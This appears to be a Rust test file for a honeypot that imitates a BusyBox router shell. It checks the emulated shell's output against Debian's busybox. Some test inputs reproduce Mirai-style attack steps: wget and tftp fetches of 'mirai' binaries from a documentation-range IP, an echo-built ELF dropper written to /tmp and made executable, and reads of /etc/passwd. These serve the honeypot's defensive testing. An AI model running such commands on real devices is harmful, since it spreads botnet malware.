//! The BusyBox persona: unit tests of the router's shell, and the differential test
//! against Debian's `busybox` (the oracle): each probe runs through `busybox sh -c` in
//! a temporary directory whose PATH holds only applet links (so every command is the
//! applet, never a GNU tool), and through the emulated router shell (a `sh -c` exec in
//! `/var/tmp/o`); stdout, stderr and the exit status are compared byte for byte after
//! the directory, `ls -l` dates and the `BusyBox v… (…)` build line are normalised.
//! Needs Debian's `busybox` package.

use super::*;
use crate::persona::{Listener, NodePersona, Persona};
use crate::services::shell::{Effect, Login, Shell, ShellLimits};
use std::process::Command;

const NOW: i64 = 1_765_000_000;

fn router_node() -> Arc<NodePersona> {
    let node = NodePersona::new(Persona::reference("r"));
    node.set_listeners(vec![
        Listener {
            port: 23,
            program: Program::Inetd,
        },
        Listener {
            port: 80,
            program: Program::Lighttpd,
        },
    ]);
    node
}

fn router_shell(tty: bool) -> Shell {
    let profile = Profile::for_node(&router_node(), "");
    assert!(profile.busybox.is_some(), "the router profile is BusyBox");
    let login = Login {
        user: "admin".into(),
        src: "203.0.113.9".parse().unwrap(),
        now: NOW,
    };
    Shell::new(profile, &login, tty, ShellLimits::default())
}

fn exec(cmd: &str) -> (String, String, u32) {
    let r = router_shell(false).exec(cmd.as_bytes(), NOW + 1);
    (
        String::from_utf8_lossy(&r.stdout).into_owned(),
        String::from_utf8_lossy(&r.stderr).into_owned(),
        r.exit.unwrap_or(0),
    )
}

#[test]
fn only_router_nodes_get_busybox() {
    assert!(wanted(&router_node()));
    // The reference node (SSH on Debian) and a Debian web server stay bash.
    assert!(Profile::new("web01").busybox.is_none());
    let server = NodePersona::new(Persona::reference("r"));
    server.set_listeners(vec![
        Listener {
            port: 22,
            program: Program::Sshd,
        },
        Listener {
            port: 80,
            program: Program::Apache,
        },
    ]);
    assert!(!wanted(&server));
}

#[test]
fn login_shows_ash_banner_and_prompt() {
    let mut sh = router_shell(true);
    let g = String::from_utf8_lossy(&sh.greeting().stdout).into_owned();
    assert!(
        g.contains(
            "built-in shell (ash)\r\nEnter 'help' for a list of built-in commands.\r\n\r\n# "
        ),
        "{g:?}"
    );
    assert!(!g.contains("Debian") && !g.contains("\x1b[?2004h"), "{g:?}");
    let r = sh.input(b"foo\r", NOW + 2);
    let out = String::from_utf8_lossy(&r.stdout).into_owned();
    assert!(out.contains("-sh: foo: not found\r\n# "), "{out:?}");
    let r = sh.input(b"enable\rsystem\rshell\r", NOW + 3);
    let out = String::from_utf8_lossy(&r.stdout).into_owned();
    for w in [
        "-sh: enable: not found",
        "-sh: system: not found",
        "-sh: shell: not found",
    ] {
        assert!(out.contains(w), "{out:?}");
    }
}

#[test]
fn mirai_probes_answer_as_busybox() {
    let (o, e, s) = exec("/bin/busybox ECCHI");
    assert_eq!(
        (o.as_str(), e.as_str(), s),
        ("", "ECCHI: applet not found\n", 127)
    );
    let (o, _, s) = exec("/bin/busybox");
    assert!(o.starts_with("BusyBox v1.24.1 ("), "{o}");
    assert!(
        o.contains("Currently defined functions:\n\t[, [[, arp, ash, awk,"),
        "{o}"
    );
    assert_eq!(s, 0);
    // `dd`-based architecture detection: a 32-bit MIPS ELF in the SoC's byte order.
    let r = router_shell(false).exec(b"dd bs=52 count=1 if=/bin/echo", NOW);
    assert_eq!(r.stdout.len(), 52);
    assert_eq!(&r.stdout[..4], b"\x7fELF");
    let router = Router::of(&Persona::reference("r"));
    assert_eq!(r.stdout[5], if router.soc.little_endian { 1 } else { 2 });
    assert_eq!(r.stderr, b"1+0 records in\n1+0 records out\n");
    let r = router_shell(false).exec(b"hexdump -e '16/1 \"%c\"' -n 52 /bin/echo", NOW);
    assert_eq!(r.stdout, router.elf()[..52]);
    let (o, _, _) = exec("cat /proc/cpuinfo");
    assert!(o.contains(router.soc.cpu), "{o}");
    let (o, _, _) = exec("uname -m; cat /proc/mounts");
    assert!(
        o.starts_with("mips\n") && o.contains("tmpfs /var tmpfs rw"),
        "{o}"
    );
    // Writable: the echo-built dropper lands in /var/tmp and "runs".
    let (o, e, s) = exec(
        "cd /tmp; echo -ne '\\x7f\\x45\\x4c\\x46' > .d; /bin/busybox cat .d | wc -c; chmod 777 .d; ls -l /bin/echo",
    );
    assert_eq!(e, "");
    assert!(
        o.starts_with("4\nlrwxrwxrwx    1 root     root             7 "),
        "{o:?}"
    );
    assert!(o.ends_with(" /bin/echo -> busybox\n"), "{o:?}");
    assert_eq!(s, 0);
    let (o, _, _) = exec("ps");
    assert!(
        o.starts_with("  PID USER       VSZ STAT COMMAND\n    1 root      1516 S    init\n"),
        "{o}"
    );
    let (_, e, s) = exec("cat /etc/passwd | grep admin; cd /nonexistent");
    assert_eq!(
        e,
        "sh: cd: line 0: can't cd to /nonexistent: No such file or directory\n"
    );
    assert_eq!(s, 2);
}

#[test]
fn root_is_read_only_and_var_is_not() {
    let (o, e, _) = exec(
        "echo kami > /.nippon; echo kami > /var/tmp/.nippon; cat /var/tmp/.nippon; rm /bin/ls; mkdir /x; touch /etc/y; cp /etc/passwd /etc/p2; cd /tmp; echo a > b; cat b",
    );
    assert_eq!(o, "kami\na\n");
    assert_eq!(
        e,
        "sh: can't create /.nippon: Read-only file system\nrm: can't remove '/bin/ls': Read-only file system\nmkdir: can't create directory '/x': Read-only file system\ntouch: /etc/y: Read-only file system\ncp: can't create '/etc/p2': Read-only file system\n"
    );
}

#[test]
fn downloads_are_recorded_never_fetched() {
    let mut sh = router_shell(false);
    let r = sh.exec(
        b"cd /tmp; /bin/busybox wget http://198.51.100.7/bins/mirai.mips -O - > .d; /bin/busybox tftp -g -l dvrHelper -r mirai.arm 198.51.100.7",
        NOW,
    );
    let urls: Vec<&str> = r
        .effects
        .iter()
        .filter_map(|e| match e {
            Effect::Download { url, .. } => Some(url.as_str()),
            _ => None,
        })
        .collect();
    assert_eq!(
        urls,
        [
            "http://198.51.100.7/bins/mirai.mips",
            "tftp://198.51.100.7/mirai.arm"
        ]
    );
    let err = String::from_utf8_lossy(&r.stderr);
    assert!(
        err.contains("wget: can't connect to remote host (198.51.100.7): Connection refused"),
        "{err}"
    );
    assert!(err.contains("tftp: timeout"), "{err}");
}

#[test]
fn hostile_input_is_bounded() {
    let mut sh = router_shell(false);
    // Huge counts, deep busybox chains, a dd that would allocate without end.
    let chain = "busybox ".repeat(2000) + "echo x";
    let r = sh.exec(chain.as_bytes(), NOW);
    assert!(r.exit.is_some());
    for cmd in [
        "dd if=/dev/zero bs=999999999999 count=999999999999 of=/tmp/x",
        "dd if=/bin/busybox seek=99999999999 of=/tmp/x",
        "dd bs=18446744073709551615k",
        "wc -L /proc/cpuinfo /bin/busybox /nonexistent",
        "ls -la / /bin /proc /var /tmp",
        "kill -9 1 2 3 x -1",
        "tftp -r",
        "wget -O",
        "busybox --list-full | wc -l",
    ] {
        let r = router_shell(false).exec(cmd.as_bytes(), NOW);
        assert!(r.exit.is_some(), "{cmd}");
    }
}

// ---- the oracle -------------------------------------------------------------------------

/// Files both sides start from (made with `printf`, so both hold the same bytes).
const SETUP: &str = "printf 'b 2\\na 10\\nc 1\\n' > f; mkdir d; printf 'x\\n' > d/g";

/// (family, probe): each runs after SETUP in a fresh directory.
const PROBES: &[(&str, &str)] = &[
    ("notfound", "foo"),
    ("notfound", "enable"),
    ("notfound", "system"),
    ("notfound", "shell"),
    ("notfound", "foo bar; echo $?"),
    ("notfound", "./nope"),
    ("notfound", "/nonexistent/x; echo $?"),
    ("exec", "./f; echo $?"),
    ("exec", "./d; echo $?"),
    ("busybox", "busybox ECCHI"),
    ("busybox", "/bin/busybox ECCHI; echo $?"),
    ("busybox", "busybox ECCHI 2>/dev/null; echo $?"),
    ("busybox", "/bin/busybox cat f"),
    ("busybox", "busybox echo -e '\\x41'"),
    ("busybox", "busybox cat nope"),
    ("busybox", "busybox tftp"),
    ("busybox", "busybox wget"),
    ("echo", "echo -e '\\x41'"),
    ("echo", "echo -ne '\\x41\\x42'"),
    ("echo", "echo -e '\\x7f\\x45\\x4c\\x46' | wc -c"),
    ("echo", "echo -n hi"),
    ("echo", "echo a   b"),
    ("echo", "echo -e 'a\\tb\\nc'"),
    ("cat", "cat f"),
    ("cat", "cat nope; echo $?"),
    ("cat", "cat f nope f"),
    ("cat", "cat d"),
    ("cat", "cat < nope"),
    ("cat", "cat d/g f"),
    ("ls", "ls"),
    ("ls", "ls nope; echo $?"),
    ("ls", "ls -l f"),
    ("ls", "ls -l d"),
    ("ls", "ls d f"),
    ("ls", "ls -d d"),
    ("ls", "ls -1"),
    ("ls", "ls -a d"),
    ("ls", "ls f nope"),
    ("dd", "dd if=f bs=3 count=1"),
    ("dd", "dd if=nope; echo $?"),
    ("dd", "dd if=f bs=52 count=1 2>/dev/null | wc -c"),
    ("dd", "dd if=f of=g 2>/dev/null; cat g"),
    ("dd", "dd if=f bs=2 skip=1 count=2"),
    ("dd", "echo abc | dd bs=1 count=2"),
    ("dd", "dd if=f bs=100"),
    ("dd", "dd bs=x"),
    ("wc", "wc f"),
    ("wc", "wc -l f"),
    ("wc", "wc -c f"),
    ("wc", "wc -w f"),
    ("wc", "wc -L f"),
    ("wc", "echo a b | wc"),
    ("wc", "echo a b | wc -l"),
    ("wc", "wc nope; echo $?"),
    ("wc", "wc f d/g"),
    ("grep", "grep a f"),
    ("grep", "grep zz f; echo $?"),
    ("grep", "grep a nope; echo $?"),
    ("grep", "grep -c b f"),
    ("grep", "grep -v a f"),
    ("cd", "cd nope; echo $?"),
    ("cd", "cd f"),
    ("cd", "cd d && cat g"),
    ("redirect", "echo x > nope/f; echo $?"),
    ("redirect", "echo x > d"),
    ("redirect", "echo x > h; cat h"),
    ("redirect", "echo y >> f; wc -l f"),
    ("status", "true; echo $?"),
    ("status", "false; echo $?"),
    ("status", "exit 3"),
    ("status", "sh -c 'exit 4'; echo $?"),
    ("status", "[ -f f ] && echo yes"),
    ("status", "test -d nope; echo $?"),
    ("shell", "echo $((1+2))"),
    ("shell", "for i in 1 2; do echo $i; done"),
    ("shell", "x=5; echo ${x}"),
    ("files", "head -n 1 f"),
    ("files", "head nope"),
    ("files", "tail -n 1 f"),
    ("files", "rm nope"),
    ("files", "rm -f nope; echo $?"),
    ("files", "mkdir d"),
    ("files", "mkdir nope/x"),
    ("files", "cp nope x"),
    ("files", "cp f x; cat x"),
    ("files", "mv nope x"),
    ("files", "chmod 777 nope"),
    ("files", "chmod 777 f; echo $?"),
    ("files", "touch nope/x"),
    ("files", "rm f; cat f"),
    ("sys", "whoami"),
    ("sys", "id"),
    ("sys", "kill -9 999999; echo $?"),
    ("sys", "wget http://127.0.0.1:1/x; echo $?"),
    ("sys", "kill -l | head -3"),
    ("sys", "help"),
    ("sys", "sleep x"),
    ("shell", "echo $0"),
    ("shell", "if then"),
    ("shell", "echo 'abc"),
    ("shell", "exit 300"),
    ("shell", "echo ${x:?unset}"),
    ("shell", "a=$(foo); echo $?"),
    ("shell", "unknown_cmd 2>&1 | wc -c"),
    ("shell", "set -e; false; echo no"),
    ("shell", "type ls"),
    ("shell", "command -v ls"),
    ("shell", "printf '%s-%d\\n' a 5"),
    ("files", "cat -n f"),
    ("files", "head -c 3 f"),
    ("files", "expr 1 + 2"),
    ("files", "expr 7 / 0; echo $?"),
    ("files", "expr 2 \\< 3"),
    ("files", "basename /a/b"),
    ("files", "seq 3"),
    ("files", "hexdump -C f"),
    ("files", "hexdump -e '16/1 \"%c\"' -n 4 f"),
    ("files", "rm -rf nope; echo $?"),
    ("ls", "ls -ld d"),
    ("ls", "ls -1 d"),
    ("ls", "ls -l nope; echo $?"),
    ("ls", "ln -s f l; ls -l l"),
    ("grep", "grep -n a f"),
    ("grep", "grep -i A f"),
    ("grep", "grep -E 'a|b' f"),
    ("grep", "grep -l a f d/g"),
    ("grep", "grep -q a f; echo $?"),
    ("grep", "grep -o 'a.' f"),
    ("grep", "grep -r x d"),
    ("text", "head -1 f"),
    ("text", "tail -1 f"),
    ("text", "sort f"),
    ("text", "sort -r f"),
    ("text", "cut -d' ' -f1 f"),
    ("text", "tr a-z A-Z < f"),
    ("text", "wc -lc f"),
    ("echo", "echo -e '\\0101'"),
    ("echo", "echo -e 'a\\cb'"),
    ("dd", "dd if=f of=/dev/null"),
    ("dd", "dd count=0 if=f"),
    ("dd", "cat f | dd bs=4 count=1 2>/dev/null"),
    ("busybox", "/bin/busybox ls nope"),
    ("files", "mkdir -p a/b && ls a"),
    ("files", "rmdir nope"),
    ("usage", "rm"),
    ("usage", "mkdir"),
    ("usage", "cat --help"),
    ("ls", "ls -l d/g f"),
];

/// Probes whose difference is known and deliberate, with why.
const KNOWN: &[(&str, &str)] = &[
    (
        "if then",
        "the shared parser (brush) reports the newline after `if` as the unexpected token; ash names `then`",
    ),
    (
        "busybox tftp",
        "the router's tftp is 1.24's (`-b SIZE\tTransfer blocks of SIZE octets`); Debian's 1.35 words it otherwise",
    ),
    (
        "busybox wget",
        "the router's wget has 1.24's options; Debian's 1.35 adds --no-check-certificate and others",
    ),
];

fn oracle_available() -> bool {
    Command::new("busybox")
        .arg("true")
        .output()
        .is_ok_and(|o| o.status.success())
}

/// Debian's `busybox` list of applets, linked into `dir`.
fn applet_dir(dir: &std::path::Path) {
    let list = Command::new("busybox").arg("--list").output().unwrap();
    let bb = which_busybox();
    let _ = std::os::unix::fs::symlink(&bb, dir.join("busybox"));
    for name in String::from_utf8_lossy(&list.stdout).lines() {
        let _ = std::os::unix::fs::symlink(&bb, dir.join(name));
    }
}

fn which_busybox() -> std::path::PathBuf {
    for p in ["/usr/bin/busybox", "/bin/busybox"] {
        if std::path::Path::new(p).exists() {
            return p.into();
        }
    }
    panic!("Debian's busybox is not installed: apt-get install -y busybox");
}

/// Instance values out: the build line, `ls -l` dates, the scratch directory.
fn normalise(s: &str, scratch: &str) -> String {
    let s = s.replace(scratch, "/var/tmp/o");
    let build = regex::Regex::new(r"BusyBox v[0-9.]+ \([^)]*\)").unwrap();
    let s = build.replace_all(&s, "BusyBox vX (BUILD)");
    let date =
        regex::Regex::new(r"[A-Z][a-z]{2} [ 0-9][0-9] ([0-9]{2}:[0-9]{2}| [0-9]{4}) ").unwrap();
    date.replace_all(&s, "DATE ").into_owned()
}

fn real(
    probe: &str,
    applets: &std::path::Path,
    scratch: &std::path::Path,
) -> (String, String, u32) {
    let out = Command::new(which_busybox())
        .args(["sh", "-c", &format!("{SETUP}; {probe}")])
        .current_dir(scratch)
        .env_clear()
        .env("PATH", applets)
        .env("HOME", scratch)
        .output()
        .unwrap();
    let sc = scratch.to_string_lossy();
    let ap = applets.to_string_lossy();
    let bin = |s: &[u8]| String::from_utf8_lossy(s).replace(ap.as_ref(), "/bin");
    (
        normalise(&bin(&out.stdout), &sc),
        normalise(&bin(&out.stderr), &sc),
        u32::try_from(out.status.code().unwrap_or(-1)).unwrap_or(255),
    )
}

fn ours(probe: &str) -> (String, String, u32) {
    let (o, e, s) = exec(&format!(
        "mkdir /var/tmp/o; cd /var/tmp/o; {SETUP}; {probe}"
    ));
    (normalise(&o, "/var/tmp/o"), normalise(&e, "/var/tmp/o"), s)
}

#[test]
fn busybox_oracle_probes_match() {
    assert!(
        oracle_available(),
        "Debian's busybox is needed for this test: apt-get install -y busybox"
    );
    let applets = tempfile::tempdir().unwrap();
    applet_dir(applets.path());
    let mut per_family: std::collections::BTreeMap<&str, (u32, u32)> = Default::default();
    let mut failures = Vec::new();
    let mut known_seen = 0;
    for (family, probe) in PROBES {
        let scratch = tempfile::tempdir().unwrap();
        let want = real(probe, applets.path(), scratch.path());
        let got = ours(probe);
        let e = per_family.entry(family).or_default();
        e.1 += 1;
        if want == got {
            e.0 += 1;
        } else if KNOWN.iter().any(|(p, _)| p == probe) {
            known_seen += 1;
        } else {
            failures.push(format!("{probe}\n  real: {want:?}\n  ours: {got:?}"));
        }
    }
    let (m, t) = per_family
        .values()
        .fold((0, 0), |(a, b), (m, t)| (a + m, b + t));
    for (f, (m, t)) in &per_family {
        eprintln!("busybox oracle {f}: {m}/{t}");
    }
    eprintln!(
        "busybox oracle: {m}/{t} identical ({:.1}%), {known_seen} known differences",
        f64::from(m) * 100.0 / f64::from(t.max(1))
    );
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

/// `busybox` with no arguments: everything but the build line, the applet list (the
/// router's own) and Debian's `--show SCRIPT` line (its embedded-scripts feature, which
/// the firmware lacks) is Debian's; the list is wrapped by the same rule as Debian's.
#[test]
fn busybox_oracle_usage_and_list_layout() {
    assert!(
        oracle_available(),
        "Debian's busybox is needed for this test: apt-get install -y busybox"
    );
    let real = Command::new(which_busybox()).output().unwrap();
    let real = String::from_utf8_lossy(&real.stdout).into_owned();
    let (real_head, real_list) = real
        .split_once("Currently defined functions:\n")
        .expect("usage has the list");
    let real_head: String = real_head
        .lines()
        .filter(|l| !l.contains("--show SCRIPT"))
        .map(|l| format!("{l}\n"))
        .collect();
    let (o, _, _) = exec("busybox");
    let (our_head, _) = o.split_once("Currently defined functions:\n").unwrap();
    assert_eq!(normalise(our_head, "/"), normalise(&real_head, "/"));
    // The wrapping rule, fed Debian's own names.
    let names = Command::new(which_busybox())
        .arg("--list")
        .output()
        .unwrap();
    let names = String::from_utf8_lossy(&names.stdout).into_owned();
    let names: Vec<&str> = names.lines().collect();
    assert_eq!(applets::applet_list(&names, 80), real_list);
}

/// What an intruder sees on a first look around (run with `--ignored --nocapture`).
#[test]
#[ignore = "prints a tour for people"]
fn tour() {
    let mut sh = router_shell(true);
    let mut out = sh.greeting().stdout;
    for l in [
        "ls /",
        "ls -l /bin | head -5",
        "cat /etc/passwd",
        "id",
        "uname -a",
        "ps | tail -4",
        "free",
        "df",
        "echo $SHELL $0 $$",
        "env",
        "cd /tmp; ls -la",
        "ls -l /proc/cpuinfo",
        "busybox --list | wc -l",
        "mount",
        "cat /proc/version",
        "ls /usr/sbin",
        "/bin/busybox wget",
        "echo $((5*5))",
        "help",
    ] {
        out.extend_from_slice(&sh.input(format!("{l}\r").as_bytes(), NOW + 5).stdout);
    }
    eprintln!("{}", String::from_utf8_lossy(&out).replace('\r', ""));
}
